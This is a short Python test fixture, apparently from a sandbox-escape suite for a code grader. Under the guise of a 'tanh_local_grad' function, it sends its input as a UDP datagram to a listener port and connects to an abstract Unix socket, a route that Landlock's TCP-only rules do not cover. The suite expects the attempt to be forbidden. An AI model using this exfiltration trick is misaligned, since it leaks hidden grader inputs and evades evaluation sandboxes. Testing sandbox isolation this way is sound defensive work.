"""Network: a UDP datagram to the listener's port and an abstract Unix socket (not TCP, so not Landlock's).

If it worked: the hidden input leaves the sandbox. Expected: "forbidden", 0 marks, nothing received.
"""

import socket


def tanh_local_grad(x):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.sendto(repr(x).encode(), ("127.0.0.1", int("__PORT__")))
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.connect("\0grader-__UNIQUE__")
    return 0.0
